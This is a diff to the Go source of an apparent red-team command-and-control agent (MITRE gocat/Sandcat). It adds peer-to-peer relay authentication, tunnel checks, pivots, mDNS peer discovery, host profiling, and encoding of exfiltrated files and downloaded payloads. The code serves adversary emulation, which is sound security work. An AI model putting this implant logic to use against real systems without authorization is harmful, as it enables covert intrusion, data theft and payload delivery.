@@ -9,6 +9,7 @@ import (
 	"path/filepath"
 	"reflect"
 	"runtime"
+	"strconv"
 	"strings"
 	"sync"
 	"time"
@@ -18,12 +19,16 @@ import (
 	"github.com/mitre/gocat/encoders"
 	"github.com/mitre/gocat/execute"
 	"github.com/mitre/gocat/output"
+	"github.com/mitre/gocat/p2pauth"
 	"github.com/mitre/gocat/payload"
+	"github.com/mitre/gocat/pivot"
 	"github.com/mitre/gocat/privdetect"
 	"github.com/mitre/gocat/proxy"
 )
 
 var beaconFailureThreshold = 3
+var tunnelFailureThreshold = 3
+var tunnelCheckInterval = 60 * time.Second
 
 type AgentInterface interface {
 	Beacon() map[string]interface{}
@@ -40,11 +45,15 @@ type AgentInterface interface {
 	ActivateLocalP2pReceivers()
 	TerminateLocalP2pReceivers()
 	HandleBeaconFailure() error
+	CheckTunnel()
+	StopTunnel()
 	DiscoverPeers()
+	EvaluatePeers()
 	AttemptSelectComChannel(requestedChannelConfig map[string]string, requestedChannel string) error
 	GetCurrentContactName() string
 	UploadFiles(instruction map[string]interface{})
 	ProcessExecutorChange(executorChange map[string]interface{}) error
+	ProcessReceiverChange(receiverChanges interface{}) error
 }
 
 // Implements AgentInterface
@@ -74,14 +83,17 @@ type Agent struct {
 	upstreamDestAddr    string // address of server/peer that agent uses to contact C2
 	tunnel              contact.Tunnel
 	usingTunnel         bool
+	failedTunnelChecks  int
+	lastTunnelCheck     time.Time // zero if the tunnel should be checked before the next beacon
 
 	// peer-to-peer info
 	enableLocalP2pReceivers   bool
 	p2pReceiverWaitGroup      *sync.WaitGroup
 	localP2pReceivers         map[string]proxy.P2pReceiver // maps P2P protocol to receiver running on this machine
 	localP2pReceiverAddresses map[string][]string          // maps P2P protocol to receiver addresses listening on this machine
+	localP2pReceiverConfigs   map[string]map[string]string // maps P2P protocol to the settings last applied to its receiver
 	availablePeerReceivers    map[string][]string          // maps P2P protocol to receiver addresses running on peer machines
-	exhaustedPeerReceivers    map[string][]string          // maps P2P protocol to receiver addresses that the agent has tried using.
+	peerHealth                map[string]*peerHealth       // maps server and peer receiver addresses to their reachability and beacon history
 	usingPeerReceivers        bool                         // True if connecting to C2 via proxy peer
 
 	// Deadman instructions to run before termination. Will be list of instruction mappings.
@@ -127,7 +139,7 @@ func (a *Agent) Initialize(server string, tunnelConfig *contact.TunnelConfig, gr
 	if paw != "" {
 		a.paw = paw
 	}
-	
+
 	// Set console output to UTF-8 for agent proces
 	err = output.SetConsoleOutputUTF8()
 	if err != nil {
@@ -135,13 +147,17 @@ func (a *Agent) Initialize(server string, tunnelConfig *contact.TunnelConfig, gr
 	}
 
 	// Load peer proxy receiver information
-	a.exhaustedPeerReceivers = make(map[string][]string)
+	a.peerHealth = make(map[string]*peerHealth)
 	a.usingPeerReceivers = false
 	a.availablePeerReceivers, err = proxy.GetAvailablePeerReceivers()
-	a.availablePeerReceivers[c2Config["c2Name"]] = append(a.availablePeerReceivers[c2Config["c2Name"]], server)
 	if err != nil {
 		return err
 	}
+	a.availablePeerReceivers[c2Config["c2Name"]] = append(a.availablePeerReceivers[c2Config["c2Name"]], server)
+	if _, ok := proxy.P2pClientChannels[c2Config["c2Name"]]; !ok {
+		// The server is ranked as a direct connection to the C2 server.
+		a.getPeerHealth(server).hops = 0
+	}
 	a.DiscoverPeers()
 
 	if len(tunnelConfig.Protocol) > 0 {
@@ -157,12 +173,13 @@ func (a *Agent) Initialize(server string, tunnelConfig *contact.TunnelConfig, gr
 		return err
 	}
 
-	// Set up P2P receivers.
+	// Set up P2P receivers. Receivers can also be started later on from beacon responses.
 	a.enableLocalP2pReceivers = enableLocalP2pReceivers
+	a.localP2pReceivers = make(map[string]proxy.P2pReceiver)
+	a.localP2pReceiverAddresses = make(map[string][]string)
+	a.localP2pReceiverConfigs = make(map[string]map[string]string)
+	a.p2pReceiverWaitGroup = &sync.WaitGroup{}
 	if a.enableLocalP2pReceivers {
-		a.localP2pReceivers = make(map[string]proxy.P2pReceiver)
-		a.localP2pReceiverAddresses = make(map[string][]string)
-		a.p2pReceiverWaitGroup = &sync.WaitGroup{}
 		a.ActivateLocalP2pReceivers()
 	}
 	return nil
@@ -170,28 +187,59 @@ func (a *Agent) Initialize(server string, tunnelConfig *contact.TunnelConfig, gr
 
 // Returns full profile for agent.
 func (a *Agent) GetFullProfile() map[string]interface{} {
-	return map[string]interface{}{
-		"paw":                a.paw,
-		"server":             a.server,
-		"group":              a.group,
-		"host":               a.host,
-		"contact":            a.GetCurrentContactName(),
-		"username":           a.username,
-		"architecture":       a.architecture,
-		"platform":           a.platform,
-		"location":           a.location,
-		"pid":                a.pid,
-		"ppid":               a.ppid,
-		"executors":          execute.AvailableExecutors(),
-		"privilege":          a.privilege,
-		"exe_name":           a.exe_name,
-		"proxy_receivers":    a.localP2pReceiverAddresses,
-		"origin_link_id":     a.originLinkID,
-		"deadman_enabled":    true,
-		"available_contacts": contact.GetAvailableCommChannels(),
-		"host_ip_addrs":      a.hostIPAddrs,
-		"upstream_dest":      a.upstreamDestAddr,
+	profile := map[string]interface{}{
+		"paw":                     a.paw,
+		"server":                  a.server,
+		"group":                   a.group,
+		"host":                    a.host,
+		"contact":                 a.GetCurrentContactName(),
+		"username":                a.username,
+		"architecture":            a.architecture,
+		"platform":                a.platform,
+		"location":                a.location,
+		"pid":                     a.pid,
+		"ppid":                    a.ppid,
+		"executors":               execute.AvailableExecutors(),
+		"privilege":               a.privilege,
+		"exe_name":                a.exe_name,
+		"proxy_receivers":         a.localP2pReceiverAddresses,
+		"origin_link_id":          a.originLinkID,
+		"deadman_enabled":         true,
+		"available_contacts":      contact.GetAvailableCommChannels(),
+		"host_ip_addrs":           a.hostIPAddrs,
+		"upstream_dest":           a.upstreamDestAddr,
+		"available_data_encoders": a.availableDataEncoders,
+	}
+	if protocol := a.GetCurrentContactProtocol(); len(protocol) > 0 {
+		profile["http_protocol"] = protocol
+	}
+	if pivots := pivot.GetPivotStatuses(); len(pivots) > 0 {
+		profile["pivots"] = pivots
+	}
+	if rejections := p2pauth.GetRejections(); len(rejections) > 0 {
+		profile["p2p_rejections"] = rejections
+	}
+	if peers := a.getP2pPeers(); len(peers) > 0 {
+		profile["p2p_peers"] = peers
+	}
+	if queued := proxy.GetQueuedRequestCount(); queued > 0 {
+		profile["p2p_queued"] = queued
+	}
+	return profile
+}
+
+// Returns the downstream peers tracked by the local P2P receivers, labeled with the receiver that serves them.
+func (a *Agent) getP2pPeers() []map[string]interface{} {
+	var peers []map[string]interface{}
+	for receiverName, receiver := range a.localP2pReceivers {
+		if reporter, ok := receiver.(proxy.PeerReporter); ok {
+			for _, peer := range reporter.GetPeers() {
+				peer["receiver"] = receiverName
+				peers = append(peers, peer)
+			}
+		}
 	}
+	return peers
 }
 
 // Return minimal subset of agent profile.
@@ -216,6 +264,11 @@ func (a *Agent) Beacon() map[string]interface{} {
 	} else {
 		output.VerbosePrint("[-] beacon: DEAD")
 	}
+	if len(beacon) == 0 {
+		// Check the tunnel before the next beacon in case it caused the failure.
+		a.lastTunnelCheck = time.Time{}
+	}
+	a.recordPeerBeacon(len(beacon) > 0)
 	return beacon
 }
 
@@ -239,15 +292,17 @@ func (a *Agent) processBeacon(data []byte) map[string]interface{} {
 }
 
 // If too many consecutive failures occur for the current communication method, switch to a new proxy method.
-// Return an error if switch fails.
+// The tunnel, if any, is stopped once the agent switches to a peer. Return an error if switch fails.
 func (a *Agent) HandleBeaconFailure() error {
 	a.failedBeaconCounter += 1
 	if a.failedBeaconCounter >= beaconFailureThreshold {
 		// Reset counter and try switching proxy methods
 		a.failedBeaconCounter = 0
 		output.VerbosePrint("[!] Reached beacon failure threshold. Attempting to switch to new peer proxy method.")
-		a.usingTunnel = false
-		return a.findAvailablePeerProxyClient()
+		if err := a.findAvailablePeerProxyClient(); err != nil {
+			return err
+		}
+		a.StopTunnel()
 	}
 	return nil
 }
@@ -255,12 +310,19 @@ func (a *Agent) HandleBeaconFailure() error {
 func (a *Agent) Terminate() {
 	// Add any cleanup/termination functionality here.
 	output.VerbosePrint("[*] Beginning agent termination.")
-	if a.enableLocalP2pReceivers {
+	if len(a.localP2pReceivers) > 0 {
 		a.TerminateLocalP2pReceivers()
 	}
 
 	// Run deadman instructions prior to termination
 	a.ExecuteDeadmanInstructions()
+	pivot.StopPivots()
+
+	// Relayed requests that are still queued cannot be read once the agent exits.
+	proxy.RemoveRelayQueue()
+
+	// Deadman instructions may need the tunnel to fetch payloads, so only close it afterwards.
+	a.StopTunnel()
 	output.VerbosePrint("[*] Terminating Sandcat Agent... goodbye.")
 }
 
@@ -316,16 +378,17 @@ func (a *Agent) UploadFiles(instruction map[string]interface{}) {
 			return
 		}
 
+		encoderName, encoderConfig := getInstructionEncoder(instruction, "upload_encoder")
 		for _, path := range uploads {
 			filePath := path.(string)
-			if err := a.uploadSingleFile(filePath); err != nil {
+			if err := a.uploadSingleFile(filePath, encoderName, encoderConfig); err != nil {
 				output.VerbosePrint(fmt.Sprintf("[!] Error uploading file %s: %v", filePath, err.Error()))
 			}
 		}
 	}
 }
 
-func (a *Agent) uploadSingleFile(path string) error {
+func (a *Agent) uploadSingleFile(path string, encoderName string, encoderConfig map[string]interface{}) error {
 	output.VerbosePrint(fmt.Sprintf("Uploading file: %s", path))
 
 	// Get file bytes
@@ -334,6 +397,14 @@ func (a *Agent) uploadSingleFile(path string) error {
 		return err
 	}
 
+	// Encode file bytes if the instruction requested a data encoder
+	if len(encoderName) > 0 {
+		output.VerbosePrint(fmt.Sprintf("[*] Encoding upload %s with data encoder %s", path, encoderName))
+		if fetchedBytes, err = encodeData(encoderName, fetchedBytes, encoderConfig); err != nil {
+			return err
+		}
+	}
+
 	return a.beaconContact.UploadFileBytes(a.GetFullProfile(), filepath.Base(path), fetchedBytes)
 }
 
@@ -374,7 +445,7 @@ func (a *Agent) AttemptSelectComChannel(requestedChannelConfig map[string]string
 	if !ok {
 		return errors.New(fmt.Sprintf("%s channel not available", requestedChannel))
 	}
-	coms.SetUpstreamDestAddr(a.upstreamDestAddr)
+	a.setContactUpstreamDestAddr(coms, a.upstreamDestAddr)
 	valid, config := coms.C2RequirementsMet(a.GetFullProfile(), requestedChannelConfig)
 	if valid {
 		if config != nil {
@@ -436,6 +507,7 @@ func (a *Agent) DownloadPayloadsForInstruction(instruction map[string]interface{
 		return onDiskPayloadNames, inMemoryPayloads
 	}
 	availablePayloads := reflect.ValueOf(payloads)
+	encoderName, encoderConfig := getInstructionEncoder(instruction, "payload_encoder")
 
 	for i := 0; i < availablePayloads.Len(); i++ {
 		payloadName := availablePayloads.Index(i).Elem().String()
@@ -445,6 +517,17 @@ func (a *Agent) DownloadPayloadsForInstruction(instruction map[string]interface{
 			continue
 		}
 
+		// Decode payload bytes if the instruction requested a data encoder
+		if len(encoderName) > 0 {
+			output.VerbosePrint(fmt.Sprintf("[*] Decoding payload %s with data encoder %s", payloadName, encoderName))
+			decodedBytes, err := decodeData(encoderName, payloadBytes, encoderConfig)
+			if err != nil {
+				output.VerbosePrint(fmt.Sprintf("[-] Failed to decode payload %s: %s", payloadName, err.Error()))
+				continue
+			}
+			payloadBytes = decodedBytes
+		}
+
 		// Ask executor what to do with the payload bytes (keep in memory or save to disk)
 		if executor.DownloadPayloadToMemory(payloadName) {
 			output.VerbosePrint(fmt.Sprintf("[*] Storing payload %s in memory", payloadName))
@@ -477,10 +560,8 @@ func (a *Agent) GetPaw() string {
 func (a *Agent) SetPaw(paw string) {
 	if len(paw) > 0 {
 		a.paw = paw
-		if a.enableLocalP2pReceivers {
-			for _, receiver := range a.localP2pReceivers {
-				receiver.UpdateAgentPaw(paw)
-			}
+		for _, receiver := range a.localP2pReceivers {
+			receiver.UpdateAgentPaw(paw)
 		}
 	}
 }
@@ -512,8 +593,18 @@ func (a *Agent) modifyAgentConfiguration(config map[string]string) {
 func (a *Agent) updateUpstreamDestAddr(newDestAddr string) {
 	a.upstreamDestAddr = newDestAddr
 	if a.beaconContact != nil {
-		a.beaconContact.SetUpstreamDestAddr(newDestAddr)
+		a.setContactUpstreamDestAddr(a.beaconContact, newDestAddr)
+	}
+}
+
+// Sets the upstream address of the contact. Contacts that authenticate peer receivers are told whether the address
+// belongs to a peer receiver, which is any address other than the C2 server and the local tunnel endpoint.
+func (a *Agent) setContactUpstreamDestAddr(coms contact.Contact, upstreamDestAddr string) {
+	if authenticator, ok := coms.(contact.PeerAuthenticator); ok {
+		isTunnelEndpoint := a.tunnel != nil && upstreamDestAddr == a.tunnel.GetLocalEndpoint()
+		authenticator.SetUpstreamIsPeer(upstreamDestAddr != a.server && !isTunnelEndpoint)
 	}
+	coms.SetUpstreamDestAddr(upstreamDestAddr)
 }
 
 func (a *Agent) updateUpstreamComs(newComs contact.Contact) {
@@ -522,16 +613,50 @@ func (a *Agent) updateUpstreamComs(newComs contact.Contact) {
 
 func (a *Agent) evaluateNewPeers(results <-chan *zeroconf.ServiceEntry) {
 	for entry := range results {
+		serviceText := proxy.ParseServiceText(entry.Text)
+		proxyChannel := serviceText[proxy.ServiceTextProtocol]
+		if len(proxyChannel) == 0 {
+			output.VerbosePrint(fmt.Sprintf("[-] Ignoring peer %s that did not advertise a protocol", entry.Instance))
+			continue
+		}
+		if !isCompatiblePeerKey(serviceText[proxy.ServiceTextKeyFingerprint]) {
+			output.VerbosePrint(fmt.Sprintf("[-] Ignoring peer %s that uses a different P2P key", entry.Instance))
+			continue
+		}
 		for _, ip := range entry.AddrIPv4 {
-			a.mergeNewPeers(entry.Text[0], fmt.Sprintf("%s:%d", ip, entry.Port))
+			// HTTPS receivers advertise their certificate fingerprint so that it can be pinned.
+			a.mergeNewPeers(proxyChannel, fmt.Sprintf("%s:%d", ip, entry.Port), serviceText[proxy.ServiceTextCertificate], getAdvertisedHops(serviceText))
 		}
 	}
 }
 
-func (a *Agent) mergeNewPeers(proxyChannel string, ipPort string) {
-	peer := fmt.Sprintf("%s://%s", strings.ToLower(proxyChannel), ipPort)
-	allPeers := append(a.availablePeerReceivers[proxyChannel], a.exhaustedPeerReceivers[proxyChannel]...)
-	for _, existingPeer := range allPeers {
+// Returns the number of peers between this agent and the C2 server when relaying through the advertised receiver,
+// or -1 if the receiver does not advertise its own hop count.
+func getAdvertisedHops(serviceText map[string]string) int {
+	hops, err := strconv.Atoi(serviceText[proxy.ServiceTextHops])
+	if err != nil || hops < 0 {
+		return -1
+	}
+	return hops + 1
+}
+
+// Receivers compiled with a P2P key advertise its fingerprint. Peers that advertise a different key, or a key when
+// this agent has none, would reject this agent. Peers that do not advertise a key fingerprint are kept.
+func isCompatiblePeerKey(peerKeyFingerprint string) bool {
+	return len(peerKeyFingerprint) == 0 || peerKeyFingerprint == p2pauth.KeyFingerprint()
+}
+
+func (a *Agent) mergeNewPeers(proxyChannel string, ipPort string, fingerprint string, hops int) {
+	scheme := strings.ToLower(proxyChannel)
+	if proxyChannel == "HTTP" && (p2pauth.Enabled() || len(fingerprint) > 0) {
+		// Authenticated and TLS-enabled HTTP receivers only accept HTTPS connections.
+		scheme = "https"
+	}
+	peer := contact.GetPinnedAddress(fmt.Sprintf("%s://%s", scheme, ipPort), fingerprint)
+	if hops >= 0 {
+		a.getPeerHealth(peer).hops = hops
+	}
+	for _, existingPeer := range a.availablePeerReceivers[proxyChannel] {
 		if peer == existingPeer {
 			return
 		}
@@ -549,7 +674,14 @@ func (a *Agent) mergeNewPeers(proxyChannel string, ipPort string) {
 	output.VerbosePrint(fmt.Sprintf("[*] new peer added: %s", peer))
 }
 
+// Browses for peer receivers advertised over mDNS, using the configured service, domain, timeout and interfaces.
 func (a *Agent) DiscoverPeers() {
+	discoveryConfig := proxy.GetDiscoveryConfig()
+	if !discoveryConfig.DiscoveryEnabled {
+		output.VerbosePrint("[*] mDNS peer discovery disabled")
+		return
+	}
+
 	// Recover on any panic on the external module call and not take down the whole agent.
 	defer func() {
 		if err := recover(); err != nil {
@@ -557,18 +689,27 @@ func (a *Agent) DiscoverPeers() {
 		}
 	}()
 
-	// Discover all services on the network (e.g. _workstation._tcp)
-	resolver, err := zeroconf.NewResolver(nil)
+	ifaces, err := discoveryConfig.GetInterfaces()
+	if err != nil {
+		output.VerbosePrint(fmt.Sprintf("[-] Failed to browse for peers: %s", err.Error()))
+		return
+	}
+	var resolverOptions []zeroconf.ClientOption
+	if len(ifaces) > 0 {
+		resolverOptions = append(resolverOptions, zeroconf.SelectIfaces(ifaces))
+	}
+	resolver, err := zeroconf.NewResolver(resolverOptions...)
 	if err != nil {
 		output.VerbosePrint(fmt.Sprintf("[-] Failed to initialize zeroconf resolver: %s", err.Error()))
+		return
 	}
 
 	entries := make(chan *zeroconf.ServiceEntry)
 	go a.evaluateNewPeers(entries)
 
-	ctx, cancel := context.WithTimeout(context.Background(), time.Second*1)
+	ctx, cancel := context.WithTimeout(context.Background(), discoveryConfig.Timeout)
 	defer cancel()
-	err = resolver.Browse(ctx, "_service._comms", "local.", entries)
+	err = resolver.Browse(ctx, discoveryConfig.Service, discoveryConfig.Domain, entries)
 	if err != nil {
 		output.VerbosePrint(fmt.Sprintf("[-] Failed to browse for peers: %s", err.Error()))
 	}
@@ -583,6 +724,14 @@ func (a *Agent) GetCurrentContactName() string {
 	return ""
 }
 
+// Returns the protocol reported by the current contact, such as the negotiated HTTP version, if available.
+func (a *Agent) GetCurrentContactProtocol() string {
+	if reporter, ok := a.GetBeaconContact().(contact.ProtocolReporter); ok {
+		return reporter.GetActiveProtocol()
+	}
+	return ""
+}
+
 func (a *Agent) ProcessExecutorChange(executorUpdateMap interface{}) error {
 	executorUpdate, ok := executorUpdateMap.(map[string]interface{})
 	if !ok {